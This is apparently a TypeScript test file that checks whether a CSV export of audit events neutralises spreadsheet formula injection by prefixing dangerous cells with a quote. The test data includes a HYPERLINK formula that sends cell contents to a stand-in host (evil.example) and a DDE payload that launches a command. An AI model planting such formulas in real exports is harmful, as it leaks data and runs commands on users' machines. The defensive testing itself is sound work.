import { afterEach, describe, expect, it } from 'vitest';
import { payload, startHarness, type Harness } from './harness.js';

let h: Harness;

afterEach(async () => {
  await h.emulator.close();
});

/** RFC 4180 records: quoted cells may hold commas, CR/LF and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted cell at ${i}`);
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (quoted) throw new Error('unterminated quoted cell');
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function exportCsv(): Promise<string[][]> {
  const created = await h.call('POST', '/exports', { body: { format: 'csv' } });
  expect(created.status).toBe(202);
  await h.emulator.exports.idle();
  const job = await h.call('GET', `/exports/${created.body.data.id}`);
  const file = await h.call('GET', job.body.data.download_url, { auth: null });
  expect(file.status).toBe(200);
  return parseCsv(file.body as string);
}

// What a spreadsheet reads as a formula when a cell starts with it (OWASP, "CSV Injection").
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV export against formula injection', () => {
  it('prefixes a single quote to every cell that starts with = + - @ tab or CR, and quotes it properly', async () => {
    h = startHarness();
    for (const [i, t] of TRIGGERS.entries()) {
      const res = await h.call('POST', '/events', {
        body: payload({
          actor_id: `user_${i}`,
          actor_name: `${t}HYPERLINK("http://evil.example/?x="&A1,"Click")`,
          resource_name: `${t}1+2`,
          session_id: `${t}cmd|' /C calc'!A0`,
          metadata: { note: `${t}SUM(1,2)` },
          targets: [{ type: 'folder', id: `${t}A1`, name: null }],
        }),
      });
      expect(res.status).toBe(201);
    }
    const [header, ...rows] = await exportCsv();
    expect(rows).toHaveLength(TRIGGERS.length);
    const column = (name: string) => header!.indexOf(name);
    for (const row of rows) {
      const i = Number(row[column('actor_id')]!.slice('user_'.length));
      const t = TRIGGERS[i]!;
      expect(row[column('actor_name')], JSON.stringify(t)).toBe(
        `'${t}HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      );
      expect(row[column('resource_name')]).toBe(`'${t}1+2`);
      expect(row[column('session_id')]).toBe(`'${t}cmd|' /C calc'!A0`);
      // JSON cells start with { or [, which no spreadsheet evaluates: they stay exact JSON.
      expect(JSON.parse(row[column('metadata')]!)).toEqual({ note: `${t}SUM(1,2)` });
      expect(JSON.parse(row[column('targets')]!)[0].id).toBe(`${t}A1`);
      for (const cell of row) expect(TRIGGERS, JSON.stringify(cell)).not.toContain(cell[0]);
    }
  });

  it('leaves other cells, numbers among them, exactly as they were', async () => {
    h = startHarness();
    await h.call('POST', '/events', {
      body: payload({ actor_name: "O'Brien = boss", resource_name: ' =padded', version: -3 }),
    });
    const [header, row] = await exportCsv();
    expect(row![header!.indexOf('actor_name')]).toBe("O'Brien = boss");
    expect(row![header!.indexOf('resource_name')]).toBe(' =padded');
    expect(row![header!.indexOf('version')]).toBe('-3');
  });
});
